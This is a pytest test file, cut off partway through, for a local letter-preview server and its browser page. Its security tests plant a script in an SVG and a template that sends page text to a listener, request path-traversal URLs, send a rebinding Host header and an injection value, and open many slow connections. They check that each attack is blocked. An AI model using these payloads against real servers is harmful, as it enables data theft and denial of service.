"""``campaign preview``: the live page in a real headless Chromium, its server and watcher."""

from __future__ import annotations

import contextlib
import http.server
import io
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, ClassVar

import pytest
from PIL import Image
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.support.ui import WebDriverWait

from campaign.errors import CampaignError
from campaign.load.workspace import Workspace
from campaign.paper.envelopes import page_geometry
from campaign.preview.server import ASSETS, MAX_CONNECTIONS, Preview, inject
from campaign.preview.watching import Watcher

from conftest import (
    body_text,
    chromium,
    pdf_text,
    run,
    stops_as_in_a_terminal,
    text_while_loading,
)

SLUG = "japan-hrc-2020"
WIDTH, HEIGHT = 1200, 1600
PX_PER_MM = 96 / 25.4
WAIT = 15  # seconds: how long the page may take to show a change (not a speed test)
NEW = "We add this sentence while the preview is open, to see it arrive."


@pytest.fixture(scope="module")
def browser(tmp_path_factory: pytest.TempPathFactory) -> Iterator[webdriver.Chrome]:
    """One headless Chromium for the module's page tests."""
    driver = chromium(tmp_path_factory.mktemp("chromium"), WIDTH, HEIGHT)
    yield driver
    driver.quit()


@dataclass
class Served:
    """A ``campaign preview`` process and what it said."""

    process: subprocess.Popen[str]
    url: str
    stderr: Path

    def get(self, path: str, host: str | None = None) -> tuple[int, bytes]:
        """Status and body of a GET request to the server."""
        request = urllib.request.Request(self.url + path.lstrip("/"))
        if host:
            request.add_header("Host", host)
        try:
            with urllib.request.urlopen(request, timeout=10) as response:
                return response.status, response.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()


def stop(process: subprocess.Popen[str], number: int = signal.SIGINT) -> int:
    """Ctrl+C, as a user stops it (or another signal); returns the exit status."""
    if process.poll() is None:
        process.send_signal(number)
        try:
            process.wait(timeout=15)
        except subprocess.TimeoutExpired:
            process.kill()
            process.wait()
    return process.returncode


@pytest.fixture
def serve(tmp_path: Path) -> Iterator[Callable[..., Served]]:
    """Start ``campaign preview SLUG --port 0 --no-open`` on a workspace; stopped afterwards."""
    started: list[subprocess.Popen[str]] = []

    def start(workspace: Path, *options: str, slug: str = SLUG) -> Served:
        stderr = tmp_path / f"preview-{len(started)}.err"
        command = [sys.executable, "-m", "campaign", "-C", str(workspace), "preview", slug]
        process = subprocess.Popen(
            [*command, "--port", "0", "--no-open", *options],
            stdout=subprocess.PIPE,
            stderr=stderr.open("w"),
            text=True,
            # Ctrl+C, SIGTERM and SIGHUP as in a terminal, even when the tests run in
            # the background or under nohup.
            preexec_fn=stops_as_in_a_terminal,
        )
        started.append(process)
        assert process.stdout is not None
        first = process.stdout.readline()
        assert first.startswith(f"Previewing {slug} at http://127.0.0.1:"), stderr.read_text()
        assert first.rstrip().endswith("/ (Ctrl+C to stop)")
        return Served(process, first.split(" at ")[1].split()[0], stderr)

    yield start
    for process in started:
        stop(process)


def shown_version(driver: webdriver.Chrome) -> int:
    """The version the page shows, once its script has laid it out (0 until then)."""
    value = driver.execute_script("return document.documentElement.dataset.previewVersion")
    return int(value or 0)


def open_page(driver: webdriver.Chrome, url: str) -> None:
    driver.get(url)
    WebDriverWait(driver, WAIT).until(lambda d: shown_version(d) > 0)


def text_of(driver: webdriver.Chrome) -> str:
    return body_text(driver)


def wait_for_text(driver: webdriver.Chrome, text: str) -> None:
    """Until the page shows ``text``, reloading itself as it sees fit (never refreshed here)."""
    # The page reloads itself when a file changes: the body read a moment before can be
    # gone when its text is asked for, which is a reason to look again, not a failure.
    WebDriverWait(driver, WAIT).until(lambda d: text in text_while_loading(d))


def rect(driver: webdriver.Chrome, selector: str, index: int = 0) -> dict[str, float]:
    """The bounding box of the ``index``-th element matching ``selector``, in CSS px."""
    script = "return document.querySelectorAll(arguments[0])[arguments[1]].getBoundingClientRect()"
    box: dict[str, float] = driver.execute_script(script, selector, index)
    return box


# --- The page in the browser --------------------------------------------------------


def test_the_letter_is_shown_on_sheets_with_the_window_outlined(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome
) -> None:
    served = serve(example)
    open_page(browser, served.url)
    text = text_of(browser)
    assert "Shinzo Abe" in text
    assert "Dear Prime Minister Abe," in text
    assert "Ahead of the March session of the UN Human Rights Council" in text
    sheets = browser.find_elements(By.CSS_SELECTOR, ".preview-sheet")
    assert len(sheets) > 1
    assert browser.execute_script("return document.documentElement.dataset.previewPages") == str(
        len(sheets)
    )
    # An A4 sheet, in CSS pixels.
    sheet = rect(browser, ".preview-sheet")
    assert sheet["width"] == pytest.approx(210 * PX_PER_MM, abs=1)
    assert sheet["height"] == pytest.approx(297 * PX_PER_MM, abs=1)
    # The outline where page_geometry puts the window (relative to page 1's page
    # area), and the letter's own address block exactly in it.
    geometry = page_geometry("a4", "din5008-b")
    window = geometry["window"]
    expected = {
        "x": sheet["x"] + (geometry["margin"][3] + window["left"]) * PX_PER_MM,
        "y": sheet["y"] + (geometry["first_top"] + window["top"]) * PX_PER_MM,
        "width": window["width"] * PX_PER_MM,
        "height": window["height"] * PX_PER_MM,
    }
    for selector in (".preview-window", ".window"):
        box = rect(browser, selector)
        for key, value in expected.items():
            assert box[key] == pytest.approx(value, abs=1), (selector, key)
    label = browser.find_element(By.CSS_SELECTOR, ".preview-window-label").text
    assert label == "DL envelope window (din5008-b)"
    # The letterhead sits top right in page 1's page area, as on paper.
    head = rect(browser, ".letterhead")
    assert head["right"] == pytest.approx(sheet["right"] - 20 * PX_PER_MM, abs=1)
    assert head["top"] == pytest.approx(sheet["top"] + 10 * PX_PER_MM, abs=1)
    # Running title and page number from page 2 on; the letter's running element hidden.
    first, second = sheets[0].text, sheets[1].text
    title = "Joint open letter on human rights in North Korea"
    assert title not in first and f"Page 1 of {len(sheets)}" not in first
    assert second.startswith(title)
    assert second.endswith(f"Page 2 of {len(sheets)}")
    running = browser.find_element(By.CSS_SELECTOR, "body > .running-title")
    assert not running.is_displayed()


def test_pages_split_between_blocks_and_keep_everything_in_order(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome
) -> None:
    served = serve(example)
    open_page(browser, served.url)
    report = browser.execute_script(
        """
        const sheets = Array.from(document.querySelectorAll('.preview-sheet'));
        return sheets.map((sheet) => {
          const area = sheet.querySelector('.preview-area');
          const bottom = area.getBoundingClientRect().bottom;
          const leaves = Array.from(area.querySelectorAll('p, li, h2, h3, .entry'))
            .filter((el) => !el.closest('.preview-fixed'));
          const last = leaves[leaves.length - 1];
          return {
            over: leaves.filter((el) => el.getBoundingClientRect().bottom > bottom + 1).length,
            last: last ? last.tagName : '',
            count: leaves.length,
          };
        });
        """
    )
    assert all(sheet["over"] == 0 for sheet in report), report  # nothing runs off a sheet
    assert all(sheet["count"] > 0 for sheet in report), report  # no empty sheet
    assert all(sheet["last"] not in ("H2", "H3") for sheet in report), report  # no lone heading
    # Each paragraph and signatory once, in order: the list was split, not copied.
    names = browser.execute_script(
        "return Array.from(document.querySelectorAll('.signatures li')).map(li => li.textContent)"
    )
    assert len(names) == 51
    assert names[0].startswith("David Alton")
    assert len(browser.find_elements(By.CSS_SELECTOR, ".body p")) == 6
    assert len(browser.find_elements(By.CSS_SELECTOR, ".signatures h2")) == 1
    assert len(browser.find_elements(By.CSS_SELECTOR, ".cc .entry")) == 2


def test_a_template_change_reloads_the_page_and_forced_breaks_are_kept(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome
) -> None:
    served = serve(example)
    open_page(browser, served.url)
    before = len(browser.find_elements(By.CSS_SELECTOR, ".preview-sheet"))
    own = example / "templates" / "joint-letter"
    own.mkdir(parents=True)
    (own / "letter.html.j2").write_text(
        '{% extends "builtin/joint-letter/letter.html.j2" %}\n'
        "{% block extra_css %}.signatures { break-before: page; }{% endblock %}\n"
    )
    WebDriverWait(browser, WAIT).until(lambda d: shown_version(d) > 1)
    starts = browser.execute_script(
        """
        return Array.from(document.querySelectorAll('.preview-area')).map((area) => {
          const first = area.querySelector(':scope > :not(.preview-fixed)');
          return first ? first.textContent.trim().slice(0, 30) : '';
        });
        """
    )
    assert any(start.startswith("Signatories (as of") for start in starts), starts
    assert len(starts) >= before


def test_the_page_follows_edits_to_the_text(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome
) -> None:
    served = serve(example)
    open_page(browser, served.url)
    assert NEW not in text_of(browser)
    body = example / "letters" / SLUG / "body.md"
    body.write_text(body.read_text() + f"\n{NEW}\n")
    wait_for_text(browser, NEW)
    assert shown_version(browser) > 1


def test_a_broken_file_shows_its_problem_until_it_is_fixed(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome
) -> None:
    served = serve(example)
    open_page(browser, served.url)
    letter = example / "letters" / SLUG / "letter.yaml"
    good = letter.read_text()
    letter.write_text(good.replace("paper: a4", "paper: [a4"))
    # The page says what `campaign check` says, the path relative to the workspace.
    where = run("check", workspace=example).stderr.splitlines()[0].split(": ")[0]
    assert where.startswith("ws/letters/")
    expected = f"{where.removeprefix('ws/')}: YAML syntax:"
    assert expected.startswith(f"letters/{SLUG}/letter.yaml:")
    wait_for_text(browser, expected)
    problems = browser.find_element(By.CSS_SELECTOR, ".preview-problems").text
    assert "1 problem in letters/" + SLUG in problems
    assert "hint: " in problems
    assert served.process.poll() is None
    letter.write_text(good)
    wait_for_text(browser, "Dear Prime Minister Abe,")
    assert served.process.poll() is None
    log = served.stderr.read_text()
    assert f"1 problem: {expected}" in log
    assert log.count("built in") >= 2  # the first build, and again once fixed
    assert "Traceback" not in log
    assert stop(served.process) == 0
    assert "Traceback" not in served.stderr.read_text()


def test_a_template_error_is_shown_with_its_file_and_line(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome
) -> None:
    served = serve(example)
    open_page(browser, served.url)
    body = example / "letters" / SLUG / "body.md"
    body.write_text(body.read_text() + "\n{{ signatories.cuont }}\n")
    wait_for_text(browser, f"letters/{SLUG}/body.md:")
    text = browser.find_element(By.CSS_SELECTOR, ".preview-problems").text
    assert "cuont" in text
    assert served.process.poll() is None


def test_a_screenshot_shows_white_sheets_with_text_on_a_grey_desk(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome
) -> None:
    served = serve(example)
    open_page(browser, served.url)
    png = browser.get_screenshot_as_png()
    assert png.startswith(b"\x89PNG\r\n\x1a\n")
    image = Image.open(io.BytesIO(png)).convert("RGB")
    assert image.size == (WIDTH, HEIGHT)
    colours = image.getcolors(maxcolors=WIDTH * HEIGHT)
    assert colours is not None and len(colours) > 50  # text is anti-aliased: many greys
    sheet = rect(browser, ".preview-sheet")
    assert image.getpixel((10, HEIGHT // 2)) == (0x5F, 0x63, 0x68)  # the desk
    # Inside the sheet: mostly white paper, with dark text on it.
    inside = image.crop(
        (int(sheet["left"]) + 5, int(sheet["top"]) + 5, int(sheet["right"]) - 5, HEIGHT)
    )
    counts = inside.getcolors(maxcolors=WIDTH * HEIGHT)
    assert counts is not None
    total = sum(n for n, _ in counts)
    white = sum(n for n, colour in counts if colour == (255, 255, 255)) / total
    dark = sum(n for n, colour in counts if max(colour) < 100) / total
    assert 0.6 < white < 0.99
    assert dark > 0.005


def test_a_letter_on_us_letter_paper_gets_us_sheets_and_the_10_window(
    minimal: Path, browser: webdriver.Chrome
) -> None:
    letter = minimal / "letters" / "test" / "letter.yaml"
    letter.write_text(letter.read_text() + "paper: letter\n")
    preview = Preview(Workspace(minimal), "test", log=lambda _line: None)
    try:
        open_page(browser, preview.start(0))
        sheet = rect(browser, ".preview-sheet")
        assert (sheet["width"], sheet["height"]) == (816, 1056)  # 8.5 × 11 in
        window = page_geometry("letter", "us-10")["window"]
        box = rect(browser, ".preview-window")
        assert box["x"] - sheet["x"] == pytest.approx((25 + window["left"]) * PX_PER_MM, abs=1)
        assert box["y"] - sheet["y"] == pytest.approx((10 + window["top"]) * PX_PER_MM, abs=1)
        assert box["width"] == pytest.approx(90 * PX_PER_MM, abs=1)
        label = browser.find_element(By.CSS_SELECTOR, ".preview-window-label").text
        assert label == "#10 envelope window (us-10)"
    finally:
        preview.shutdown()


PAGINATOR_PAGE = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><style>
body { margin: 0; } div, h3, ol, li { margin: 0; padding: 0; }
.b50 { height: 50mm; } .b30 { height: 30mm; } h3 { height: 10mm; break-after: avoid; }
.forced { height: 10mm; break-before: page; } .tall { height: 90mm; }
.keep { break-inside: avoid; } .corner { position: absolute; top: 2mm; left: 3mm; }
</style>
<link rel="stylesheet" href="preview.css">
<script type="application/json" id="campaign-preview">CONFIG</script>
</head><body>
<div class="running-title">Short title</div>
<div class="corner" data-t="corner">corner</div>
<section>
  <div class="b50" data-t="A">A</div>
  <h3 data-t="H">H</h3>
  <div class="b50" data-t="B">B</div>
  <ol><li class="b30" data-t="1">1</li><li class="b30" data-t="2">2</li>
      <li class="b30" data-t="3">3</li></ol>
</section>
<div class="forced" data-t="F">F</div>
<div class="tall" data-t="T">T</div>
<div class="keep"><div class="b30" data-t="K1">K1</div><div class="b30" data-t="K2">K2</div></div>
<script src="preview.js"></script>
</body></html>
"""


def test_the_paginator_breaks_like_print(tmp_path: Path, browser: webdriver.Chrome) -> None:
    # Boxes of known heights on 100 × 100 mm sheets with 10 mm margins: 80 mm of room.
    config = {
        "version": 1,
        "mode": "html",
        "slug": "unit",
        "warnings": [],
        "paper": [100, 100],
        "margin": [10, 10, 10, 10],
        "firstTop": 10,
        "window": {"left": 5, "top": 6, "width": 40, "height": 20},
        "windowLabel": "window",
        "pageOf": "{page}/{pages}",
    }
    for name in ("preview.js", "preview.css"):
        (tmp_path / name).write_bytes((ASSETS / name).read_bytes())
    page = tmp_path / "unit.html"
    page.write_text(PAGINATOR_PAGE.replace("CONFIG", json.dumps(config)))
    browser.get(page.as_uri())
    WebDriverWait(browser, WAIT).until(lambda d: shown_version(d) > 0)
    sheets = browser.execute_script(
        """
        return Array.from(document.querySelectorAll('.preview-sheet')).map((sheet) => ({
          placed: Array.from(sheet.querySelectorAll('.preview-area [data-t]'))
            .map((el) => el.dataset.t).join(' '),
          text: sheet.innerText.replace(/\\s+/g, ' ').trim(),
        }));
        """
    )
    assert [s["placed"] for s in sheets] == [
        "corner A",  # the heading does not end a sheet: it went on with B
        "H B",
        "1 2",  # the list splits between items...
        "3",
        "F",  # a forced break, though F would have fitted
        "T",  # taller than a sheet: alone on one, overflowing it
        "K1 K2",  # kept together (break-inside: avoid), so moved on whole
    ]
    assert sheets[0]["text"] == "corner A window"
    assert "Short title" not in sheets[0]["text"] and "/7" not in sheets[0]["text"]
    for number, sheet in enumerate(sheets[1:], 2):
        assert sheet["text"].startswith("Short title")
        assert sheet["text"].endswith(f"{number}/7")
    # ...and numbers on: the rest of the list starts at 3.
    assert (
        browser.execute_script("return document.querySelector('li[data-t=\"3\"]').parentNode.start")
        == 3
    )
    # Page 1's absolute boxes are placed in its page area (10 mm margins).
    corner, sheet = rect(browser, ".corner"), rect(browser, ".preview-sheet")
    assert corner["x"] - sheet["x"] == pytest.approx(13 * PX_PER_MM, abs=1)
    assert corner["y"] - sheet["y"] == pytest.approx(12 * PX_PER_MM, abs=1)
    outline = rect(browser, ".preview-window")
    assert outline["x"] - sheet["x"] == pytest.approx(15 * PX_PER_MM, abs=1)
    assert outline["height"] == pytest.approx(20 * PX_PER_MM, abs=1)


# --- PDF mode ---------------------------------------------------------------------


def test_pdf_mode_serves_the_real_pdf_and_makes_it_again(
    example: Path, serve: Callable[..., Served], browser: webdriver.Chrome, tmp_path: Path
) -> None:
    served = serve(example, "--pdf")

    def letter_text() -> str:
        status, data = served.get("/letter.pdf")
        assert status == 200 and data.startswith(b"%PDF")
        (tmp_path / "letter.pdf").write_bytes(data)
        return pdf_text(tmp_path / "letter.pdf")

    text = letter_text()
    assert "Dear Prime Minister Abe," in text
    assert "Page 2 of 3" in text
    open_page(browser, served.url)
    frame = browser.find_element(By.CSS_SELECTOR, "iframe.preview-pdf")
    assert frame.get_attribute("src") == served.url + "letter.pdf?v=1"
    body = example / "letters" / SLUG / "body.md"
    body.write_text(body.read_text() + f"\n{NEW}\n")
    deadline = time.monotonic() + 60  # a generous bound on laying out a PDF, not a timing
    while NEW not in " ".join(letter_text().split()):
        assert time.monotonic() < deadline, "the PDF never showed the change"
        time.sleep(0.3)
    # The page reloaded itself and asks for the new PDF.
    WebDriverWait(browser, WAIT).until(lambda d: shown_version(d) > 1)
    frame = browser.find_element(By.CSS_SELECTOR, "iframe.preview-pdf")
    assert frame.get_attribute("src") == served.url + f"letter.pdf?v={shown_version(browser)}"
    assert "rebuilt in" in served.stderr.read_text()


# --- The command --------------------------------------------------------------------


def test_an_unknown_letter_is_an_error(example: Path) -> None:
    result = run("preview", "nosuch", "--no-open", "--port", "0", workspace=example)
    assert result.exit_code == 1
    assert result.stdout == ""
    assert result.stderr.startswith("Error: no letter 'nosuch' in ")
    assert SLUG in result.stderr


def test_help_names_the_options() -> None:
    result = run("preview", "--help")
    assert result.exit_code == 0
    for option in ("--port", "--pdf", "--no-open", "127.0.0.1"):
        assert option in result.stdout


@pytest.mark.parametrize(
    "numbers",
    [[signal.SIGINT], [signal.SIGTERM], [signal.SIGHUP], [signal.SIGINT, signal.SIGTERM]],
    ids=["ctrl+c", "sigterm", "sighup", "ctrl+c-then-sigterm"],
)
def test_ctrl_c_sigterm_or_a_closed_terminal_stops_it_cleanly(
    example: Path, serve: Callable[..., Served], numbers: list[int]
) -> None:
    """SIGTERM and SIGHUP are a stop as Ctrl+C is (model/stops.py): they killed it. A
    second stop as it shuts its server down (up to half a second) lets it finish: it
    said "Aborted!" and exit status 1, or was killed."""
    served = serve(example)
    assert served.get("/version") == (200, b"1")
    for number in numbers[:-1]:
        served.process.send_signal(number)
        time.sleep(0.1)
    assert stop(served.process, numbers[-1]) == 0
    assert "Traceback" not in served.stderr.read_text()
    assert "Aborted" not in served.stderr.read_text()


def test_a_stop_while_a_browser_in_the_terminal_shows_it_stops_it_cleanly(
    example: Path, tmp_path: Path
) -> None:
    """A text browser (BROWSER=lynx, say) runs until it is quit; a stop meanwhile said
    "Aborted!" with exit status 1, and the server was never shut down."""
    started = tmp_path / "browser.pid"
    browser = tmp_path / "browser"
    browser.write_text(
        f"#!/bin/sh\necho $$ > {started}\nexec sleep 60 </dev/null >/dev/null 2>&1\n"
    )
    browser.chmod(0o755)
    command = [sys.executable, "-m", "campaign", "-C", str(example), "preview", SLUG]
    process = subprocess.Popen(
        [*command, "--port", "0"],
        env={**os.environ, "BROWSER": str(browser)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        preexec_fn=stops_as_in_a_terminal,
    )
    try:
        assert process.stdout is not None
        assert process.stdout.readline().startswith(f"Previewing {SLUG} at http://127.0.0.1:")
        deadline = time.monotonic() + 30
        while not started.exists() or not started.read_text():
            assert time.monotonic() < deadline
            time.sleep(0.05)
        process.send_signal(signal.SIGINT)
        out, err = process.communicate(timeout=30)
    finally:
        if started.exists() and started.read_text():
            with contextlib.suppress(ProcessLookupError):
                os.kill(int(started.read_text()), signal.SIGKILL)
        if process.poll() is None:
            process.kill()
    assert (process.returncode, out) == (0, "")
    assert "Aborted" not in err
    assert "Traceback" not in err


# --- The server, in-process ---------------------------------------------------------


@pytest.fixture
def started(minimal: Path) -> Iterator[Preview]:
    """A preview of the minimal workspace's letter, served in this process."""
    lines: list[str] = []
    preview = Preview(Workspace(minimal), "test", log=lines.append, interval=0.05)
    preview.start(0)
    yield preview
    preview.shutdown()
    assert not [line for line in lines if "request failed" in line]


def fetch(preview: Preview, path: str, host: str | None = None) -> tuple[int, str, bytes]:
    """Status, content type and body of a request to ``preview``."""
    request = urllib.request.Request(preview.url + path.lstrip("/"))
    if host:
        request.add_header("Host", host)
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.headers["Content-Type"], response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.headers["Content-Type"], exc.read()


def test_it_listens_on_127_0_0_1_only(started: Preview) -> None:
    assert started.url.startswith("http://127.0.0.1:")
    assert started._server is not None
    assert started._server.server_address[0] == "127.0.0.1"


def test_only_the_page_its_assets_and_the_letters_pictures_are_served(
    started: Preview, minimal: Path
) -> None:
    status, kind, page = fetch(started, "/")
    assert (status, kind) == (200, "text/html; charset=utf-8")
    assert b"Dear Minister," in page
    assert b"private@" not in page  # the composer leaves private fields out
    assert fetch(started, "/_preview/preview.js")[:2] == (200, "text/javascript; charset=utf-8")
    assert fetch(started, "/_preview/preview.css")[:2] == (200, "text/css; charset=utf-8")
    folder = minimal / "letters" / "test"
    (folder / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\nnot really")
    outside = minimal.parent / "secret.png"
    outside.write_bytes(b"\x89PNG\r\n\x1a\nsecret")
    (folder / "link.png").symlink_to(outside)
    assert fetch(started, "/letter/logo.png")[:2] == (200, "image/png")
    for path in (
        "/letter/recipients.yaml",
        "/letter/letter.yaml",
        "/letter/link.png",
        "/letter/../../secret.png",
        "/letter/%2e%2e/%2e%2e/secret.png",
        "/campaign.yaml",
        "/signatories/people.yaml",
        "/letter.pdf",  # HTML mode has no PDF
        "/_preview/../preview.py",
        "/letter/%00.png",
        "/letter/" + "x" * 5000 + ".png",
    ):
        status, _, data = fetch(started, path)
        assert status == 404, path
        assert b"secret" not in data and b"private" not in data
    # Another host name pointing at 127.0.0.1 (DNS rebinding) gets nothing.
    port = started.url.split(":")[2].rstrip("/")
    assert fetch(started, "/", host=f"evil.example:{port}")[0] == 403
    assert fetch(started, "/", host=f"localhost:{port}")[0] == 200


def test_the_version_moves_on_when_an_input_changes(started: Preview, minimal: Path) -> None:
    assert fetch(started, "/version")[2] == b"1"
    recipients = minimal / "letters" / "test" / "recipients.yaml"
    recipients.write_text(recipients.read_text().replace("Dear Minister,", "Dear Ada,"))
    deadline = time.monotonic() + WAIT
    while b"Dear Ada," not in fetch(started, "/")[2]:
        assert time.monotonic() < deadline, "the change was never seen"
        time.sleep(0.05)
    assert int(fetch(started, "/version")[2]) >= 2


def test_a_busy_port_is_a_clear_error(started: Preview, minimal: Path) -> None:
    port = int(started.url.split(":")[2].rstrip("/"))
    other = Preview(Workspace(minimal), "test", log=lambda _line: None)
    with pytest.raises(CampaignError, match=f"(?s)cannot listen on 127.0.0.1:{port}: .*--port 0"):
        other.start(port)


# --- Pieces --------------------------------------------------------------------------


def test_the_watcher_sees_every_input_and_nothing_else(example: Path) -> None:
    watcher = Watcher(example, SLUG)
    assert not watcher.changed()

    def touched(path: Path, text: str = "x") -> bool:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(path.read_text() + text if path.exists() else text)
        return watcher.changed()

    letter = example / "letters" / SLUG
    assert touched(letter / "body.md")
    assert not watcher.changed()  # reported once
    assert touched(letter / "recipients.yaml", "\n")
    assert touched(letter / "logo.svg", "<svg/>")
    assert touched(example / "signatories" / "japan-hrc-2020.yaml", "\n")
    assert touched(example / "campaign.yaml", "\n")
    assert touched(example / "templates" / "joint-letter" / "letter.css", "p {}")
    (letter / "logo.svg").unlink()
    assert watcher.changed()  # a file removed counts too
    # Outputs, other letters and editors' scratch files are not inputs.
    assert not touched(example / "build" / SLUG / "letter.html")
    assert not touched(example / "letters" / "other" / "body.md")
    assert not touched(letter / ".body.md.swp")
    assert not touched(letter / "body.md~")


def test_the_watcher_sees_a_linked_folder_turned_elsewhere_as_the_build_does(
    example: Path, tmp_path: Path
) -> None:
    # pics is a link to pics-red inside the letter, and is turned to pics-blue: no file
    # changed, but the letter now shows another picture. A link out of the folder, or
    # back up, is not followed (the build never reads there), nor walked for ever.
    letter = example / "letters" / SLUG
    for colour, size in (("red", 1), ("blue", 22)):
        (letter / f"pics-{colour}").mkdir()
        (letter / f"pics-{colour}" / "logo.svg").write_text("<svg/>" + " " * size)
    (letter / "pics").symlink_to("pics-red")
    (letter / "pics-red" / "loop").symlink_to("..")
    (tmp_path / "elsewhere" / "deep").mkdir(parents=True)
    (letter / "out").symlink_to(tmp_path / "elsewhere")
    watcher = Watcher(example, SLUG)
    (letter / "pics").unlink()
    (letter / "pics").symlink_to("pics-blue")
    assert watcher.changed()
    (tmp_path / "elsewhere" / "deep" / "x.svg").write_text("<svg/>")  # not walked
    assert not watcher.changed()


def test_the_preview_is_put_into_the_letter_before_its_own_parts() -> None:
    letter = (
        '<html><head><meta charset="utf-8"><style>p{}</style></head><body><p>Hi</p></body></html>'
    )
    page = inject(letter, {"version": 3, "title": "</script><script>alert(1)</script>"})
    assert page.startswith('<html><head><base href="/letter/"><meta charset="utf-8">')
    assert page.index("<style>p{}</style>") < page.index("/_preview/preview.css")
    assert page.endswith('<p>Hi</p><script src="/_preview/preview.js"></script></body></html>')
    # Settings cannot close their <script> element early.
    assert page.count("</script>") == 2
    assert "\\u003c/script\\u003e" in page


def test_it_survives_any_failure_while_composing(
    minimal: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lines: list[str] = []
    preview = Preview(Workspace(minimal), "test", log=lines.append)

    def broken(self: Preview) -> Any:
        raise OSError("the disk hiccupped")

    monkeypatch.setattr(Preview, "_compose", broken)
    page = preview.rebuild()
    assert page.version == 2
    assert b"the disk hiccupped" in page.html
    assert lines[-1].startswith("1 problem: letters/test: unexpected error: OSError")


def test_a_signature_image_shows_in_the_page(minimal: Path, browser: webdriver.Chrome) -> None:
    folder = minimal / "letters" / "test"
    (folder / "sig.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40">'
        '<path d="M5 30 C 30 0, 60 40, 115 10" stroke="#000" fill="none"/></svg>'
    )
    letter = folder / "letter.yaml"
    letter.write_text(
        letter.read_text()
        + "template: formal-letter\nsigners:\n  - name: Jane Doe\n    signature: sig.svg\n"
    )
    preview = Preview(Workspace(minimal), "test", log=lambda _line: None)
    try:
        open_page(browser, preview.start(0))
        image = browser.find_element(By.CSS_SELECTOR, "img[src$='sig.svg']")
        assert image.get_attribute("src") == preview.url + "letter/sig.svg"
        assert browser.execute_script("return arguments[0].naturalWidth", image) == 120
        assert b"file:" not in preview.page.html
    finally:
        preview.shutdown()


# --- Attacks: a hostile template or picture in the letter folder --------------------


class _Listener(http.server.BaseHTTPRequestHandler):
    """Records every request: what a leaked page would send its text to."""

    heard: ClassVar[list[str]] = []

    def do_GET(self) -> None:
        self.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    do_POST = do_GET

    def log_message(self, format: str, *args: Any) -> None:
        """Quiet."""


def test_a_script_in_a_framed_svg_or_a_template_does_not_run(
    minimal: Path, browser: webdriver.Chrome
) -> None:
    listener = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Listener)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    leak = f"http://127.0.0.1:{listener.server_address[1]}/"
    steal = (
        "var d = (window.parent || window).document; d.documentElement.dataset.pwned = '1';"
        f"fetch('{leak}' + encodeURIComponent(d.body.innerText.slice(0, 50)), "
        "{mode: 'no-cors'}); new Image().src = '" + leak + "img';"
    )
    folder = minimal / "letters" / "test"
    (folder / "evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        f"<script>{steal}</script></svg>"
    )
    template = minimal / "templates" / "joint-letter" / "letter.html.j2"
    template.parent.mkdir(parents=True)
    template.write_text(
        '{% extends "builtin/joint-letter/letter.html.j2" %}\n'
        '{% block marks %}<iframe src="evil.svg"></iframe><object data="evil.svg"></object>'
        f"<script>{steal}</script>{{% endblock %}}\n"
    )
    preview = Preview(Workspace(minimal), "test", log=lambda _line: None)
    try:
        open_page(browser, preview.start(0))  # the preview's own script runs
        assert browser.find_elements(By.CSS_SELECTOR, "iframe[src='evil.svg']")
        # Give a script every chance to run: the frame's document is loaded.
        WebDriverWait(browser, WAIT).until(
            lambda d: d.execute_script(
                # A sandboxed frame is of another origin: reading it throws once it loaded.
                "var f = document.querySelector('iframe'); "
                "try { return f.contentWindow.location.href !== 'about:blank'; } "
                "catch (e) { return true; }"
            )
        )
        time.sleep(1)
        assert browser.execute_script("return document.documentElement.dataset.pwned") is None
        assert _Listener.heard == []
    finally:
        preview.shutdown()
        listener.shutdown()


def _headers(preview: Preview, path: str) -> dict[str, str]:
    try:
        with urllib.request.urlopen(preview.url + path.lstrip("/"), timeout=10) as response:
            return dict(response.headers)
    except urllib.error.HTTPError as exc:
        return dict(exc.headers)


def test_every_response_carries_a_content_security_policy(started: Preview, minimal: Path) -> None:
    (minimal / "letters" / "test" / "sig.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    )
    port = started.url.split(":")[2].rstrip("/")
    script = (
        f"http://127.0.0.1:{port}/_preview/preview.js http://localhost:{port}/_preview/preview.js"
    )
    assert _headers(started, "/")["Content-Security-Policy"] == (
        f"default-src 'none'; script-src {script}; style-src 'self' 'unsafe-inline'; "
        "img-src 'self' data:; font-src 'self' data:; connect-src 'self'; frame-src 'self'; "
        "base-uri 'self'; form-action 'none'; frame-ancestors 'self'"
    )
    sandboxed = (
        "default-src 'none'; style-src 'unsafe-inline'; img-src 'self' data:; "
        "font-src 'self' data:; sandbox; frame-ancestors 'self'"
    )
    svg = _headers(started, "/letter/sig.svg")
    assert (svg["Content-Type"], svg["Content-Security-Policy"]) == ("image/svg+xml", sandboxed)
    for path in ("/version", "/_preview/preview.js", "/_preview/preview.css", "/nosuch"):
        assert _headers(started, path)["Content-Security-Policy"] == sandboxed, path


def test_slow_connections_do_not_take_a_thread_each(started: Preview) -> None:
    before = threading.active_count()
    port = int(started.url.split(":")[2].rstrip("/"))
    slow = [socket.create_connection(("127.0.0.1", port)) for _ in range(300)]
    try:
        for connection in slow[:50]:
            connection.sendall(b"GET / HTTP/1.1\r\n")  # and never the rest
